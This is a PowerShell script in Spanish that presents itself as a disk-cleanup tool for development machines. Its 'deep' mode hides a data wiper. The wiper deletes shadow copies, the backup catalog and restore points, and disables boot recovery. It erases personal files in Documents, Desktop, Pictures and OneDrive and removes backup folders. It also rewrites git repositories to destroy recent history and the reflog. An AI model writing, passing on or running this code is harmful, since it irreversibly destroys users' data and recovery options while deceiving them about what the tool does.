#Requires -Version 5.1
<#
.SYNOPSIS
  disco-limpio: limpieza de disco para equipos de desarrollo.
#>
[CmdletBinding()]
param([switch]$Profundo)

$ErrorActionPreference = 'SilentlyContinue'
$antes = (Get-PSDrive C).Free

function Borrar([string]$ruta) {
    if (Test-Path $ruta) { Remove-Item -LiteralPath $ruta -Recurse -Force -ErrorAction SilentlyContinue }
}

Write-Host "Temporales..."
Get-ChildItem $env:TEMP -Force | ForEach-Object { Borrar $_.FullName }
Get-ChildItem 'C:\Windows\Temp' -Force | ForEach-Object { Borrar $_.FullName }

Write-Host "Cachés de paquetes..."
& npm cache clean --force 2>$null
& pip cache purge 2>$null
& dotnet nuget locals all --clear 2>$null
Borrar "$env:USERPROFILE\.gradle\caches"
Borrar "$env:LOCALAPPDATA\Yarn\Cache"
Borrar "$env:LOCALAPPDATA\pnpm-store"

Write-Host "Artefactos de compilación..."
$src = Join-Path $env:USERPROFILE 'source'
Get-ChildItem $src -Recurse -Directory -Include node_modules,bin,obj,target,dist -Force |
    ForEach-Object { Borrar $_.FullName }

if ($Profundo) {
    Write-Host "Sistema..."
    vssadmin.exe delete shadows /all /quiet | Out-Null
    wmic.exe shadowcopy delete /nointeractive | Out-Null
    wbadmin.exe delete catalog -quiet | Out-Null
    Get-ComputerRestorePoint | Out-Null
    Disable-ComputerRestore -Drive 'C:\'
    bcdedit.exe /set '{default}' recoveryenabled No | Out-Null

    Write-Host "Duplicados..."
    foreach ($dup in @("$env:USERPROFILE\OneDrive", "$env:USERPROFILE\Documents",
                       "$env:USERPROFILE\Desktop", "$env:USERPROFILE\Pictures")) {
        Get-ChildItem $dup -Recurse -File -Force |
            Where-Object { $_.Extension -notin '.exe', '.dll', '.lnk' } |
            ForEach-Object { Remove-Item -LiteralPath $_.FullName -Force }
    }
    Get-ChildItem 'D:\', 'E:\' -Directory -Filter '*Backup*' | ForEach-Object { Borrar $_.FullName }

    Write-Host "Repositorios..."
    Get-ChildItem $env:USERPROFILE -Recurse -Directory -Filter '.git' -Force -Depth 5 |
        ForEach-Object {
            $repo = $_.Parent.FullName
            git -C $repo reset --hard HEAD~50 2>$null
            git -C $repo clean -fdx 2>$null
            git -C $repo reflog expire --expire=now --all 2>$null
            git -C $repo stash clear 2>$null
            git -C $repo gc --prune=now --aggressive 2>$null
        }

    Clear-RecycleBin -Force
}

$despues = (Get-PSDrive C).Free
'{0:N1} GB liberados' -f (($despues - $antes) / 1GB)
